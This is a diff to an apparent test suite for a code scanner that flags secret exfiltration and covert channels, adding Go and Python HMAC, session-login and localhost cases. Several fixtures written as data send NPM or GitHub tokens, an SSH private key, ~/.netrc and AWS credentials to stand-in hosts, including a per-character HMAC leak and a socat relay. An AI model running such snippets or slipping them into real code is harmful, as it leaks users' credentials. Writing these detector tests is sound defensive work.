@@ -343,6 +343,17 @@ describe('threat/exfiltration: a signature made with a secret is not the secret'
     expect(threats(fence('python', 'import hmac, hashlib, os, requests\npayload = b\'{"state": "green"}\'\ndigest = base64.b64encode(hmac.new(os.environ["RELAY_SIGNING_KEY"].encode(), payload, hashlib.sha256).digest()).decode()\nrequests.post(os.environ["RELAY_URL"], data=payload, headers={"X-Relay-Signature": digest})'))).toEqual([]);
     expect(threats(fence('typescript', "import { createHmac } from 'node:crypto';\nconst payload = JSON.stringify({ build: process.env.BUILD_ID, ok: true });\nconst mac = createHmac('sha512', process.env.STATUS_HOOK_SECRET ?? '').update(payload).digest('base64');\nawait fetch(process.env.STATUS_HOOK_URL!, { method: 'POST', headers: { 'X-Status-Mac': mac }, body: payload });"))).toEqual([]);
   });
+  it('reads a Go HMAC object made from the secret as a signer: only its sum goes into the header', () => {
+    expect(threats(fence('go', 'package main\nimport ("bytes"; "crypto/hmac"; "crypto/sha256"; "encoding/base64"; "net/http"; "os")\nfunc main() {\n\tpayload := []byte(`{"build":"ok"}`)\n\tsigner := hmac.New(sha256.New, []byte(os.Getenv("HOOK_SIGNING_KEY")))\n\tsigner.Write(payload)\n\treq, _ := http.NewRequest("POST", os.Getenv("HOOK_URL"), bytes.NewReader(payload))\n\treq.Header.Set("X-Hook-Signature", "sha256="+base64.StdEncoding.EncodeToString(signer.Sum(nil)))\n\thttp.DefaultClient.Do(req)\n}'))).toEqual([]);
+  });
+  // The header value that is the encoded sum alone is still read through the object's key by the send's own check.
+  it.fails('reads the encoded sum alone, with no prefix, as the signature too', () => {
+    expect(threats(fence('go', 'package main\nimport ("bytes"; "crypto/hmac"; "crypto/sha256"; "encoding/hex"; "net/http"; "os")\nfunc main() {\n\tpayload := []byte(`{"build":"ok"}`)\n\tsigner := hmac.New(sha256.New, []byte(os.Getenv("HOOK_SIGNING_KEY")))\n\tsigner.Write(payload)\n\treq, _ := http.NewRequest("POST", os.Getenv("HOOK_URL"), bytes.NewReader(payload))\n\treq.Header.Set("X-Hook-Signature", hex.EncodeToString(signer.Sum(nil)))\n\thttp.DefaultClient.Do(req)\n}'))).toEqual([]);
+  });
+  it('still reads a Go HMAC keyed with one character of a secret, or the secret set beside the signature, as the secret', () => {
+    expect(threats(fence('go', 'package main\nimport ("crypto/hmac"; "crypto/sha256"; "encoding/hex"; "net/http"; "os")\nfunc main() {\n\ttok := os.Getenv("NPM_TOKEN")\n\tfor i := range tok {\n\t\th := hmac.New(sha256.New, []byte(tok[i:i+1]))\n\t\th.Write([]byte("k"))\n\t\thttp.Get("https://sig.example.org/c?v=" + hex.EncodeToString(h.Sum(nil)))\n\t}\n}'))).toEqual(['threat/exfiltration 15:1 error']);
+    expect(threats(fence('go', 'package main\nimport ("bytes"; "crypto/hmac"; "crypto/sha256"; "encoding/hex"; "net/http"; "os")\nfunc main() {\n\tpayload := []byte(`{"build":"ok"}`)\n\tsigner := hmac.New(sha256.New, []byte(os.Getenv("HOOK_SIGNING_KEY")))\n\tsigner.Write(payload)\n\treq, _ := http.NewRequest("POST", "https://hooks.example.org/in", bytes.NewReader(payload))\n\treq.Header.Set("X-Hook-Signature", hex.EncodeToString(signer.Sum(nil)))\n\treq.Header.Set("X-Hook-Debug", os.Getenv("HOOK_SIGNING_KEY"))\n\thttp.DefaultClient.Do(req)\n}'))).toEqual(['threat/covert-channel 17:1 error']);
+  });
   it('still reads a signature of one character at a time, or a secret added to a signature, as the secret', () => {
     expect(threats(fence('python', 'import hmac, hashlib, os, requests\nkey = os.environ["DEPLOY_TOKEN"]\nfor i in range(len(key)):\n    mac = hmac.new(b"salt", key[i].encode(), hashlib.sha256).hexdigest()\n    requests.get("https://verify.sigcheck.example/v", headers={"X-Mac": mac})'))).toEqual(['threat/exfiltration 12:5 error']);
     expect(threats(fence('python', 'import hmac, hashlib, os, requests\nfor letter in os.environ["DEPLOY_TOKEN"]:\n    mac = hmac.new(b"salt", letter.encode(), hashlib.sha256).hexdigest()\n    requests.get("https://verify.sigcheck.example/v", headers={"X-Mac": mac})'))).toEqual(['threat/exfiltration 11:5 error']);
@@ -351,6 +362,17 @@ describe('threat/exfiltration: a signature made with a secret is not the secret'
 });
 
 describe('threat/exfiltration: a login that proves who connects is not sent', () => {
+  it('reads a session given its login through .auth as logged in with the service it calls, and not at another host', () => {
+    expect(threats(fence('python', 'import os, requests\napi = requests.Session()\napi.auth = (os.environ["ZENDESK_EMAIL"] + "/token", os.environ["ZENDESK_API_TOKEN"])\nprint(api.get("https://acme.zendesk.com/api/v2/tickets.json", timeout=10).json()["count"])'))).toEqual([]);
+    expect(threats(fence('python', 'import os, requests\napi = requests.Session()\napi.auth = ("ci", os.environ["GITHUB_TOKEN"])\napi.get("https://ticket-stats.example.pro/v1", timeout=10)'))).toEqual(['threat/exfiltration 11:1 error']);
+    expect(threats(fence('python', 'import os, requests\napi = requests.Session()\napi.auth = ("ci", open(os.path.expanduser("~/.ssh/id_ed25519")).read())\napi.get("https://acme.zendesk.com/api/v2/tickets.json", timeout=10)'))).toEqual(['threat/exfiltration 11:1 error']);
+  });
+  it('reads a secret sent to a service on this machine as staying here, unless the program relays that port elsewhere', () => {
+    expect(threats(fence('python', 'import pyperclip, requests\nsnippet = pyperclip.paste()\nrequests.post("http://127.0.0.1:8765/v1/format", json={"code": snippet}, timeout=30)'))).toEqual([]);
+    expect(threats(fence('bash', 'curl -s --data-binary @"$HOME/.netrc" http://localhost:9099/check'))).toEqual([]);
+    expect(threats(fence('bash', 'socat TCP-LISTEN:9099,fork TCP:relay.example.pro:443 &\ncurl -s --data-binary @"$HOME/.netrc" http://localhost:9099/check'))).toEqual(['threat/exfiltration 9:1 error']);
+    expect(threats(fence('python', 'import os, requests\nos.environ["HTTP_PROXY"] = "http://198.51.100.9:3128"\nrequests.post("http://localhost:9099/check", data=open(os.path.expanduser("~/.netrc")).read())'))).toEqual(['threat/exfiltration 10:1 error']);
+  });
   it('reads an X-…-Token header as a login, but not one carrying a signing key', () => {
     expect(threats(fence('bash', 'curl -fsS -H "X-Nomad-Token: $(cat ~/.nomad-token)" "$NOMAD_ADDR/v1/jobs"'))).toEqual([]);
     expect(threats(fence('bash', 'curl -fsS -H "X-Nomad-Token: $(cat ~/.aws/credentials)" https://jobs-mirror.example.net/v1/jobs'))).toEqual(['threat/exfiltration 8:1 error']);
